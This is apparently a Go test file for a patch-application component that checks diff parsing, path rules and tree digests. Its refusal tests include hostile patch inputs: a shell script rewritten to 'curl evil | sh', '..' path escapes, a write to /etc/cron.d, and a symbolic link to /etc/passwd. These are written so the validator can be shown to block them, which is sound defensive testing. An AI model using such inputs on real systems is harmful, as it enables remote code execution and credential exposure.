package enginepatch_test

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/lowbarena/lowbarena/domain/campaign"
	"github.com/lowbarena/lowbarena/domain/enginepatch"
	"github.com/lowbarena/lowbarena/events/reason"
)

// numbered is "line 1\n" to "line n\n".
func numbered(n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, "line %d\n", i)
	}
	return b.String()
}

// sourceFiles is the pinned engine source the tests patch.
func sourceFiles() map[string]string {
	return map[string]string{
		"go.mod":         "module engine\n\ngo 1.26\n",
		"main.go":        "package main\n\nfunc main() {}\n",
		"sched/sched.go": numbered(20),
		"sched/old.go":   "package sched\n\n// old\n",
		"crlf.txt":       "one\r\ntwo\r\nthree\r\n",
		"noeol.go":       "package x\n\nvar v = 1",
		"docs/readme.md": "read me\n",
		"run.sh":         "echo hi\n",
	}
}

func writeTree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
	}
}

// source writes the test source tree (with link -> sched, a symbolic
// link) and returns its folder.
func source(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "engine")
	writeTree(t, dir, sourceFiles())
	require.NoError(t, os.Symlink("sched", filepath.Join(dir, "link")))
	return dir
}

func rules() *campaign.EngineSource {
	return &campaign.EngineSource{Dir: "engine", Revision: "test", Kind: campaign.SourceGo,
		Allow: []string{"*.go", "sched/**", "crlf.txt", "go.mod", "run.sh", "link/**", "build/**"}, MaxPatchBytes: 1 << 16}
}

const modGit = `diff --git a/sched/sched.go b/sched/sched.go
index 1111111..2222222 100644
--- a/sched/sched.go
+++ b/sched/sched.go
@@ -4,7 +4,8 @@ func schedule() {
 line 4
 line 5
 line 6
-line 7
+line 7 faster
+line 7b
 line 8
 line 9
 line 10
`

const deleteGit = `diff --git a/sched/old.go b/sched/old.go
deleted file mode 100644
index 4444444..0000000
--- a/sched/old.go
+++ /dev/null
@@ -1,3 +0,0 @@
-package sched
-
-// old
`

// TestApply applies patches as git diff and diff -ruN write them, with
// prefixes and without, and checks the tree Apply writes, the summary
// and that the tree's digest is the summary's engine digest.
func TestApply(t *testing.T) {
	src := sourceFiles()
	sched := strings.Replace(src["sched/sched.go"], "line 7\n", "line 7 faster\nline 7b\n", 1)
	cases := []struct {
		name    string
		patch   string
		rules   func(*campaign.EngineSource)
		want    map[string]string // changed or new files
		gone    []string
		files   []string
		added   int
		removed int
	}{
		{name: "git diff, a/ b/ prefixes", patch: modGit, want: map[string]string{"sched/sched.go": sched},
			files: []string{"sched/sched.go"}, added: 2, removed: 1},
		{name: "git diff --no-prefix", patch: strings.NewReplacer("a/sched", "sched", "b/sched", "sched").Replace(modGit),
			want: map[string]string{"sched/sched.go": sched}, files: []string{"sched/sched.go"}, added: 2, removed: 1},
		{name: "unified diff without prefixes", patch: "--- sched/sched.go\n+++ sched/sched.go\n@@ -20 +20 @@\n-line 20\n+line twenty\n",
			want:  map[string]string{"sched/sched.go": strings.Replace(src["sched/sched.go"], "line 20\n", "line twenty\n", 1)},
			files: []string{"sched/sched.go"}, added: 1, removed: 1},
		{name: "diff -ru of two folders", patch: "diff -ru engine.orig/main.go engine/main.go\n--- engine.orig/main.go\t2026-01-01 00:00:00.000000000 +0000\n+++ engine/main.go\t2026-01-02 00:00:00.000000000 +0000\n@@ -1,3 +1,3 @@\n package main\n \n-func main() {}\n+func main() { run() }\n",
			want: map[string]string{"main.go": "package main\n\nfunc main() { run() }\n"}, files: []string{"main.go"}, added: 1, removed: 1},
		{name: "two hunks in one file", patch: "--- a/sched/sched.go\n+++ b/sched/sched.go\n@@ -1,3 +1,3 @@\n-line 1\n+line one\n line 2\n line 3\n@@ -18,3 +18,4 @@\n line 18\n line 19\n line 20\n+line 21\n",
			want:  map[string]string{"sched/sched.go": strings.Replace(src["sched/sched.go"], "line 1\n", "line one\n", 1) + "line 21\n"},
			files: []string{"sched/sched.go"}, added: 2, removed: 1},
		{name: "new file (git)", patch: "diff --git a/sched/new.go b/sched/new.go\nnew file mode 100644\nindex 0000000..3333333\n--- /dev/null\n+++ b/sched/new.go\n@@ -0,0 +1,2 @@\n+package sched\n+// new\n",
			want: map[string]string{"sched/new.go": "package sched\n// new\n"}, files: []string{"sched/new.go"}, added: 2},
		{name: "new file (diff -ruN)", patch: "diff -ruN engine.orig/sched/extra.go engine/sched/extra.go\n--- engine.orig/sched/extra.go\t1970-01-01 00:00:00.000000000 +0000\n+++ engine/sched/extra.go\t2026-01-02 00:00:00.000000000 +0000\n@@ -0,0 +1 @@\n+package sched\n",
			want: map[string]string{"sched/extra.go": "package sched\n"}, files: []string{"sched/extra.go"}, added: 1},
		{name: "new file in a new folder", patch: "--- /dev/null\n+++ b/sched/fast/path.go\n@@ -0,0 +1 @@\n+package fast\n",
			want: map[string]string{"sched/fast/path.go": "package fast\n"}, files: []string{"sched/fast/path.go"}, added: 1},
		{name: "deleted file (git)", patch: deleteGit, gone: []string{"sched/old.go"}, files: []string{"sched/old.go"}, removed: 3},
		{name: "deleted file (diff -ruN)", patch: "--- engine.orig/sched/old.go\t2026-01-01 00:00:00.000000000 +0000\n+++ engine/sched/old.go\t1970-01-01 00:00:00.000000000 +0000\n@@ -1,3 +0,0 @@\n-package sched\n-\n-// old\n",
			gone: []string{"sched/old.go"}, files: []string{"sched/old.go"}, removed: 3},
		{name: "renamed file", patch: "diff --git a/sched/old.go b/sched/renamed.go\nsimilarity index 100%\nrename from sched/old.go\nrename to sched/renamed.go\n",
			want: map[string]string{"sched/renamed.go": src["sched/old.go"]}, gone: []string{"sched/old.go"}, files: []string{"sched/old.go", "sched/renamed.go"}},
		{name: "renamed and changed file", patch: "diff --git a/sched/old.go b/sched/renamed.go\nsimilarity index 80%\nrename from sched/old.go\nrename to sched/renamed.go\nindex 1111111..2222222 100644\n--- a/sched/old.go\n+++ b/sched/renamed.go\n@@ -1,3 +1,3 @@\n package sched\n \n-// old\n+// renamed\n",
			want: map[string]string{"sched/renamed.go": "package sched\n\n// renamed\n"}, gone: []string{"sched/old.go"}, files: []string{"sched/old.go", "sched/renamed.go"}, added: 1, removed: 1},
		{name: "CRLF file, CRLF patch", patch: "--- a/crlf.txt\r\n+++ b/crlf.txt\r\n@@ -1,3 +1,3 @@\r\n one\r\n-two\r\n+TWO\r\n three\r\n",
			want: map[string]string{"crlf.txt": "one\r\nTWO\r\nthree\r\n"}, files: []string{"crlf.txt"}, added: 1, removed: 1},
		{name: "no newline at end of file", patch: "--- a/noeol.go\n+++ b/noeol.go\n@@ -1,3 +1,3 @@\n package x\n \n-var v = 1\n\\ No newline at end of file\n+var v = 2\n\\ No newline at end of file\n",
			want: map[string]string{"noeol.go": "package x\n\nvar v = 2"}, files: []string{"noeol.go"}, added: 1, removed: 1},
		{name: "a build script, allowed by the campaign", patch: "--- a/go.mod\n+++ b/go.mod\n@@ -1,3 +1,3 @@\n module engine\n \n-go 1.26\n+go 1.27\n",
			rules: func(s *campaign.EngineSource) { s.AllowBuildScripts = true },
			want:  map[string]string{"go.mod": "module engine\n\ngo 1.27\n"}, files: []string{"go.mod"}, added: 1, removed: 1},
		{name: "a commit message before two files", patch: "From 1234 Mon Sep 17 00:00:00 2001\nSubject: faster\n\n" + modGit + deleteGit,
			want: map[string]string{"sched/sched.go": sched}, gone: []string{"sched/old.go"}, files: []string{"sched/old.go", "sched/sched.go"}, added: 2, removed: 4},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := source(t)
			r := rules()
			if tc.rules != nil {
				tc.rules(r)
			}
			s, err := enginepatch.Open(r, root)
			require.NoError(t, err)
			sum, err := s.Check([]byte(tc.patch))
			require.NoError(t, err)
			d := sha256.Sum256([]byte(tc.patch))
			require.Equal(t, hex.EncodeToString(d[:]), sum.SHA256)
			require.Equal(t, tc.files, sum.Files)
			require.Equal(t, tc.added, sum.LinesAdded)
			require.Equal(t, tc.removed, sum.LinesRemoved)
			srcDigest, err := enginepatch.TreeDigest(root)
			require.NoError(t, err)
			require.Equal(t, srcDigest, sum.SourceDigest)
			require.NotEqual(t, sum.SourceDigest, sum.EngineDigest, "a patch that changes the tree changes its digest")

			dst := filepath.Join(t.TempDir(), "patched")
			applied, err := s.Apply([]byte(tc.patch), dst)
			require.NoError(t, err)
			require.Equal(t, sum, applied, "Check and Apply agree")
			for name, content := range src {
				if _, changed := tc.want[name]; changed {
					continue
				}
				got, err := os.ReadFile(filepath.Join(dst, filepath.FromSlash(name)))
				if contains(tc.gone, name) {
					require.ErrorIs(t, err, os.ErrNotExist, "%s is deleted", name)
					continue
				}
				require.NoError(t, err)
				require.Equal(t, content, string(got), "%s is as in the source", name)
			}
			for name, content := range tc.want {
				got, err := os.ReadFile(filepath.Join(dst, filepath.FromSlash(name)))
				require.NoError(t, err)
				require.Equal(t, content, string(got), name)
			}
			link, err := os.Readlink(filepath.Join(dst, "link"))
			require.NoError(t, err)
			require.Equal(t, "sched", link, "the source's links are copied as links")
			got, err := enginepatch.TreeDigest(dst)
			require.NoError(t, err)
			require.Equal(t, sum.EngineDigest, got, "the written tree has the summary's engine digest")
			after, err := enginepatch.TreeDigest(root)
			require.NoError(t, err)
			require.Equal(t, srcDigest, after, "the source is left alone")
		})
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestRefusals refuses each bad patch with its code, in a sentence that
// names the file (or the line) at fault, and writes nothing.
func TestRefusals(t *testing.T) {
	binaryGit := "diff --git a/sched/blob.bin b/sched/blob.bin\nnew file mode 100644\nindex 0000000..5555555\nGIT binary patch\nliteral 4\nLcmZ?d00001\n\nliteral 0\nHcmV?d00001\n\n"
	cases := []struct {
		name  string
		patch string
		rules func(*campaign.EngineSource)
		code  reason.Code
		says  string
	}{
		{name: "context off by one line", patch: strings.Replace(modGit, "@@ -4,7 +4,8 @@", "@@ -3,7 +3,8 @@", 1),
			code: reason.PatchDoesNotApply, says: "hunk 1 of sched/sched.go"},
		{name: "applies only at another offset", patch: strings.Replace(modGit, "@@ -4,7 +4,8 @@", "@@ -12,7 +12,8 @@", 1),
			code: reason.PatchDoesNotApply, says: "at line 12"},
		{name: "a removed line that differs", patch: strings.Replace(modGit, "-line 7\n", "-line 7 \n", 1),
			code: reason.PatchDoesNotApply, says: "sched/sched.go"},
		{name: "past the end of the file", patch: "--- a/sched/sched.go\n+++ b/sched/sched.go\n@@ -20,2 +20,2 @@\n line 20\n-line 21\n+line 22\n",
			code: reason.PatchDoesNotApply, says: "which has 20 lines"},
		{name: "an LF patch on a CRLF file", patch: "--- a/crlf.txt\n+++ b/crlf.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n",
			code: reason.PatchDoesNotApply, says: "crlf.txt"},
		{name: "a change to a file the source does not have", patch: "--- a/sched/none.go\n+++ b/sched/none.go\n@@ -1 +1 @@\n-a\n+b\n",
			code: reason.PatchDoesNotApply, says: "sched/none.go"},
		{name: "a new file the source has", patch: "--- /dev/null\n+++ b/main.go\n@@ -0,0 +1 @@\n+package main\n",
			code: reason.PatchDoesNotApply, says: "main.go"},
		{name: "a deletion that leaves lines", patch: strings.Replace(strings.Replace(deleteGit, "@@ -1,3 +0,0 @@", "@@ -1,2 +0,0 @@", 1), "-// old\n", "", 1),
			code: reason.PatchDoesNotApply, says: "sched/old.go"},
		{name: "a rename onto a file the source has", patch: "diff --git a/sched/old.go b/main.go\nsimilarity index 100%\nrename from sched/old.go\nrename to main.go\n",
			code: reason.PatchDoesNotApply, says: "main.go"},
		{name: "a path outside the allowed ones", patch: "--- a/docs/readme.md\n+++ b/docs/readme.md\n@@ -1 +1 @@\n-read me\n+read me twice\n",
			code: reason.PatchPathForbidden, says: "docs/readme.md"},
		{name: "a path with ..", patch: "--- /dev/null\n+++ b/../escape.go\n@@ -0,0 +1 @@\n+package x\n",
			code: reason.PatchPathForbidden, says: "../escape.go"},
		{name: "an absolute path", patch: "--- /dev/null\n+++ /etc/cron.d/x.go\n@@ -0,0 +1 @@\n+package x\n",
			code: reason.PatchPathForbidden, says: "/etc/cron.d/x.go"},
		{name: "through a symbolic link", patch: "--- a/link/sched.go\n+++ b/link/sched.go\n@@ -1 +1 @@\n-line 1\n+line one\n",
			code: reason.PatchPathForbidden, says: "symbolic link"},
		{name: "a new symbolic link", patch: "diff --git a/sched/l.go b/sched/l.go\nnew file mode 120000\n--- /dev/null\n+++ b/sched/l.go\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n",
			code: reason.PatchPathForbidden, says: "sched/l.go"},
		{name: "a rename out of the allowed paths", patch: "diff --git a/sched/old.go b/docs/old.go\nsimilarity index 100%\nrename from sched/old.go\nrename to docs/old.go\n",
			code: reason.PatchPathForbidden, says: "docs/old.go"},
		{name: "go.mod", patch: "--- a/go.mod\n+++ b/go.mod\n@@ -1,3 +1,3 @@\n module engine\n \n-go 1.26\n+go 1.27\n",
			code: reason.PatchBuildScript, says: "go.mod"},
		{name: "a shell script", patch: "--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo hi\n+curl evil | sh\n",
			code: reason.PatchBuildScript, says: "run.sh"},
		{name: "a file under build/", patch: "--- /dev/null\n+++ b/build/gen.go\n@@ -0,0 +1 @@\n+package build\n",
			code: reason.PatchBuildScript, says: "build/gen.go"},
		{name: "a GIT binary patch", patch: binaryGit, code: reason.PatchBinary, says: "sched/blob.bin"},
		{name: "binary files differ", patch: "Binary files engine.orig/sched/x.bin and engine/sched/x.bin differ\n", code: reason.PatchBinary, says: "x.bin"},
		{name: "content with a NUL byte", patch: "--- a/main.go\n+++ b/main.go\n@@ -1 +1 @@\n-package main\n+package \x00main\n", code: reason.PatchBinary, says: "line 5"},
		{name: "larger than the limit", patch: modGit, rules: func(s *campaign.EngineSource) { s.MaxPatchBytes = int64(len(modGit) - 1) },
			code: reason.PatchTooLarge, says: fmt.Sprintf("at most %d bytes", len(modGit)-1)},
		{name: "empty", patch: "", code: reason.PatchMalformed, says: "empty"},
		{name: "blank", patch: " \n\n", code: reason.PatchMalformed, says: "empty"},
		{name: "not a diff", patch: "make it faster please\n", code: reason.PatchMalformed, says: "no file diff"},
		{name: "a hunk cut short", patch: "--- a/main.go\n+++ b/main.go\n@@ -1,3 +1,3 @@\n package main\n", code: reason.PatchMalformed, says: "hunk 1 of main.go"},
		{name: "a hunk with a stray line", patch: "--- a/main.go\n+++ b/main.go\n@@ -1,3 +1,3 @@\n package main\n*\n-func main() {}\n+func main() { run() }\n", code: reason.PatchMalformed, says: "is no hunk line"},
		{name: "a hunk outside a file", patch: "@@ -1 +1 @@\n-a\n+b\n", code: reason.PatchMalformed, says: "outside any file"},
		{name: "a file diff -ru left out", patch: "Only in engine: new.go\n", code: reason.PatchMalformed, says: "diff -ruN"},
		{name: "one file twice", patch: modGit + modGit, code: reason.PatchMalformed, says: "sched/sched.go twice"},
		{name: "hunks out of order", patch: "--- a/sched/sched.go\n+++ b/sched/sched.go\n@@ -18,1 +18,1 @@\n-line 18\n+line eighteen\n@@ -1,1 +1,1 @@\n-line 1\n+line one\n",
			code: reason.PatchMalformed, says: "hunk 2 of sched/sched.go"},
		{name: "new line numbers that do not add up", patch: strings.Replace(modGit, "@@ -4,7 +4,8 @@", "@@ -4,7 +9,8 @@", 1), code: reason.PatchMalformed, says: "hunk 1 of sched/sched.go"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := rules()
			if tc.rules != nil {
				tc.rules(r)
			}
			s, err := enginepatch.Open(r, source(t))
			require.NoError(t, err)
			_, err = s.Check([]byte(tc.patch))
			pe := enginepatch.AsError(err)
			require.NotNil(t, pe, "%v", err)
			require.Equal(t, tc.code, pe.Code, pe.Message)
			require.Contains(t, pe.Message, tc.says)
			require.Contains(t, enginepatch.Codes(), pe.Code)

			dst := filepath.Join(t.TempDir(), "patched")
			_, err = s.Apply([]byte(tc.patch), dst)
			require.Equal(t, tc.code, enginepatch.AsError(err).Code)
			require.NoDirExists(t, dst, "a refused patch writes nothing")
		})
	}
}

// TestUnknownSource refuses a patch against a campaign that pins no
// engine source.
func TestUnknownSource(t *testing.T) {
	for name, c := range map[string]*campaign.Campaign{
		"no engine":        {TaskID: "t"},
		"no engine source": {TaskID: "t", Engine: &campaign.EngineSpec{Command: "simengine"}},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := enginepatch.ForCampaign(c)
			require.Equal(t, reason.PatchUnknownSource, enginepatch.AsError(err).Code)
		})
	}
	_, err := enginepatch.Open(nil, t.TempDir())
	require.Equal(t, reason.PatchUnknownSource, enginepatch.AsError(err).Code)

	dir := t.TempDir()
	writeTree(t, filepath.Join(dir, "engine"), sourceFiles())
	s, err := enginepatch.ForCampaign(&campaign.Campaign{TaskID: "t", Dir: dir, Engine: &campaign.EngineSpec{Source: rules()}})
	require.NoError(t, err)
	require.Equal(t, filepath.Join(dir, "engine"), s.Root, "the source is Dir inside the campaign folder")

	escape := rules()
	escape.Dir = "../elsewhere"
	_, err = enginepatch.ForCampaign(&campaign.Campaign{TaskID: "t", Dir: dir, Engine: &campaign.EngineSpec{Source: escape}})
	require.Error(t, err)
	require.Nil(t, enginepatch.AsError(err), "a campaign's own mistake is the operator's, not a refusal of the patch")
}

// TestTreeDigest: the digest depends on paths and contents only, so it is
// the same for the same tree anywhere, and differs when either changes.
func TestTreeDigest(t *testing.T) {
	files := sourceFiles()
	digestOf := func(change func(dir string)) string {
		dir := t.TempDir()
		writeTree(t, dir, files)
		if change != nil {
			change(dir)
		}
		d, err := enginepatch.TreeDigest(dir)
		require.NoError(t, err)
		return d
	}
	base := digestOf(nil)
	require.Len(t, base, 64)
	require.Equal(t, base, digestOf(nil), "the same tree in another folder")
	require.Equal(t, base, digestOf(func(dir string) { require.NoError(t, os.Chmod(filepath.Join(dir, "run.sh"), 0o755)) }), "modes are not content")
	require.Equal(t, base, digestOf(func(dir string) { require.NoError(t, os.Mkdir(filepath.Join(dir, "empty"), 0o755)) }), "an empty folder is no file")
	for name, change := range map[string]func(string){
		"a byte changed": func(dir string) {
			require.NoError(t, os.WriteFile(filepath.Join(dir, "main.go"), []byte("package main\n\nfunc main() {} \n"), 0o644))
		},
		"a file renamed": func(dir string) {
			require.NoError(t, os.Rename(filepath.Join(dir, "main.go"), filepath.Join(dir, "main2.go")))
		},
		"a file added":   func(dir string) { writeTree(t, dir, map[string]string{"sched/new.go": ""}) },
		"a file removed": func(dir string) { require.NoError(t, os.Remove(filepath.Join(dir, "run.sh"))) },
		"a link added":   func(dir string) { require.NoError(t, os.Symlink("main.go", filepath.Join(dir, "l"))) },
	} {
		require.NotEqual(t, base, digestOf(change), name)
	}

	// The same source and patch give the same engine digest, another
	// patch another one.
	one, err := enginepatch.Open(rules(), source(t))
	require.NoError(t, err)
	two, err := enginepatch.Open(rules(), source(t))
	require.NoError(t, err)
	a, err := one.Check([]byte(modGit))
	require.NoError(t, err)
	b, err := two.Check([]byte(modGit))
	require.NoError(t, err)
	require.Equal(t, a, b)
	c, err := one.Check([]byte(strings.Replace(modGit, "+line 7b\n", "+line 7c\n", 1)))
	require.NoError(t, err)
	require.NotEqual(t, a.EngineDigest, c.EngineDigest)
	require.Equal(t, a.SourceDigest, c.SourceDigest)
}

// TestAllowedAndBuildScript pins the glob and build script rules.
func TestAllowedAndBuildScript(t *testing.T) {
	for _, tc := range []struct {
		globs []string
		name  string
		want  bool
	}{
		{[]string{"*.go"}, "main.go", true},
		{[]string{"*.go"}, "sched/sched.go", false},
		{[]string{"sched/**"}, "sched/a/b.go", true},
		{[]string{"sched/**"}, "sched", false},
		{[]string{"sched/**"}, "schedx/a.go", false},
		{[]string{"vllm/*/ops/**"}, "vllm/model_executor/ops/x.py", true},
		{[]string{"**"}, "any/where.py", true},
		{nil, "main.go", false},
	} {
		require.Equal(t, tc.want, enginepatch.Allowed(tc.globs, tc.name), "%v %s", tc.globs, tc.name)
	}
	for name, want := range map[string]bool{
		"go.mod": true, "sub/go.sum": true, "setup.py": true, "setup.cfg": true, "pyproject.toml": true,
		"csrc/CMakeLists.txt": true, "Makefile": true, "tools/x.sh": true, "build/gen.py": true,
		"vllm/engine.py": false, "sched/build.go": false, "vllm/build/x.py": false,
	} {
		require.Equal(t, want, enginepatch.BuildScript(name), name)
	}
}

// TestRealDiffs applies what diff -ruN and git diff (with and without
// prefixes, with renames) really write for a change, a new file, a
// deleted file and a renamed file, and checks the patched tree is the
// changed tree, digest for digest. It needs diff and git.
func TestRealDiffs(t *testing.T) {
	for _, tool := range []string{"diff", "git"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed", tool)
		}
	}
	change := func(dir string) {
		writeTree(t, dir, map[string]string{
			"sched/sched.go": strings.Replace(strings.Replace(numbered(20), "line 3\n", "line three\n", 1), "line 17\n", "", 1),
			"sched/new.go":   "package sched\n\nfunc fast() {}\n",
			"noeol.go":       "package x\n\nvar v = 2\n",
		})
		require.NoError(t, os.Remove(filepath.Join(dir, "main.go")))
		require.NoError(t, os.Rename(filepath.Join(dir, "sched", "old.go"), filepath.Join(dir, "sched", "moved.go")))
	}
	run := func(dir string, ok int, name string, args ...string) []byte {
		cmd := exec.Command(name, args...)
		cmd.Dir = dir
		out, err := cmd.Output()
		var ee *exec.ExitError
		if err != nil && !(errors.As(err, &ee) && ee.ExitCode() == ok) {
			require.NoError(t, err, "%s %v", name, args)
		}
		return out
	}
	files := sourceFiles()
	delete(files, "docs/readme.md") // diff would show it unchanged anyway
	patches := map[string]func(t *testing.T) (string, []byte){
		"diff -ruN": func(t *testing.T) (string, []byte) {
			parent := t.TempDir()
			writeTree(t, filepath.Join(parent, "engine.orig"), files)
			writeTree(t, filepath.Join(parent, "engine"), files)
			change(filepath.Join(parent, "engine"))
			return filepath.Join(parent, "engine"), run(parent, 1, "diff", "-ruN", "engine.orig", "engine")
		},
	}
	for _, flags := range [][]string{{"-M"}, {"-M", "--no-prefix"}, {"--no-renames"}} {
		patches["git diff "+strings.Join(flags, " ")] = func(t *testing.T) (string, []byte) {
			dir := t.TempDir()
			writeTree(t, dir, files)
			git := []string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"}
			run(dir, 0, "git", append(git, "init", "-q")...)
			run(dir, 0, "git", append(git, "add", "-A")...)
			run(dir, 0, "git", append(git, "commit", "-q", "-m", "source")...)
			change(dir)
			run(dir, 0, "git", append(git, "add", "-A")...)
			return dir, run(dir, 0, "git", append(append(git, "diff", "--cached"), flags...)...)
		}
	}
	for name, mk := range patches {
		t.Run(name, func(t *testing.T) {
			want, patch := mk(t)
			root := filepath.Join(t.TempDir(), "engine")
			writeTree(t, root, files)
			r := rules()
			r.Allow = append(r.Allow, "**")
			s, err := enginepatch.Open(r, root)
			require.NoError(t, err)
			dst := filepath.Join(t.TempDir(), "patched")
			sum, err := s.Apply(patch, dst)
			require.NoError(t, err, "%s", patch)
			require.Contains(t, sum.Files, "main.go")
			require.Contains(t, sum.Files, "sched/new.go")
			require.NoError(t, os.RemoveAll(filepath.Join(want, ".git")))
			wantDigest, err := enginepatch.TreeDigest(want)
			require.NoError(t, err)
			require.Equal(t, wantDigest, sum.EngineDigest, "the patched tree is the changed one")
			got, err := enginepatch.TreeDigest(dst)
			require.NoError(t, err)
			require.Equal(t, wantDigest, got)
		})
	}
}
